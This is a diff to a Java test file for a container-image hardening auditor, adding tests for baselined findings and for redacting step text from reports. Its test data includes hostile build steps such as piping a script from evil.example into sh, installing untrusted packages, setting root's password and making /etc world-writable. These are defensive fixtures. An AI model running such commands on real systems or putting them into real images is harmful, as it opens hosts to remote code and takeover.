@@ -7,8 +7,14 @@ import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import dev.tallyclerk.hardening.Outcome;
+import dev.tallyclerk.hardening.Profile;
 import dev.tallyclerk.hardening.Rule;
+import dev.tallyclerk.hardening.audit.AuditReport;
+import dev.tallyclerk.hardening.audit.Auditor;
+import dev.tallyclerk.hardening.audit.Baseline;
+import dev.tallyclerk.hardening.audit.Disposition;
 import dev.tallyclerk.hardening.audit.Finding;
+import dev.tallyclerk.hardening.audit.Policy;
 import dev.tallyclerk.hardening.audit.Verdict;
 import dev.tallyclerk.hardening.report.JsonReporter;
 import dev.tallyclerk.registry.audit.ImageSubject.Layer;
@@ -21,10 +27,12 @@ import java.util.HashSet;
 import java.util.List;
 import java.util.Map;
 import java.util.Set;
+import java.util.stream.Collectors;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.MethodSource;
 
 class ImageRulesTest {
@@ -580,5 +588,47 @@ class ImageRulesTest {
         assertFalse(report.contains(secret), report);
         assertFalse(report.contains(TOKEN), report);
         assertTrue(report.contains("\"redacted\" : true"));
+    }
+
+    private static AuditReport auditAfter(String former, String step) {
+        Baseline baseline = Baseline.of(Images.audit(Images.built(former)));
+        Policy strict = Policy.defaults().withProfile(Profile.STRICT);
+        return Auditor.of(strict, ImageRules.ruleSet())
+                .withBaseline(baseline)
+                .audit(List.of(Images.built("COPY a /a # buildkit", step)), Images.NOW);
+    }
+
+    private static Set<Disposition> dispositions(AuditReport report, String rule) {
+        return report.findings(FAIL).stream()
+                .filter(finding -> finding.rule().id().value().equals(rule))
+                .map(Finding::disposition)
+                .collect(Collectors.toSet());
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "IMG-019,curl https://good.example/setup.sh | sh,curl http://evil.example/x | sh",
+        "IMG-020,curl -k https://good.example/a,curl -k https://evil.example/x",
+        "IMG-021,apk add --allow-untrusted a.apk,apk add --allow-untrusted b.apk",
+        "IMG-022,usermod -p x a,usermod -p x root",
+        "IMG-023,chmod 777 /opt/a,chmod 777 /etc"
+    })
+    void aBaselineHasTheStepAndNotAnyStep(String rule, String accepted, String other) {
+        assertEquals(Set.of(Disposition.BASELINED), dispositions(auditAfter(accepted, accepted), rule));
+        assertEquals(Set.of(Disposition.OPEN), dispositions(auditAfter(accepted, other), rule));
+    }
+
+    @Test
+    void aBaselineHasAnAddWhoseFileChanged() {
+        String step = "/bin/sh -c #(nop) ADD file:%s in /app ";
+        AuditReport now = auditAfter(step.formatted("ab".repeat(32)), step.formatted("cd".repeat(32)));
+        assertEquals(Set.of(Disposition.BASELINED), dispositions(now, "IMG-012"));
+    }
+
+    @Test
+    void theTextOfAStepIsNotInTheReport() throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        JsonReporter.pretty().write(Images.audit(Images.built("echo root:hunter2-fake | chpasswd")), out);
+        assertFalse(out.toString(StandardCharsets.UTF_8).contains("hunter2"));
     }
 }
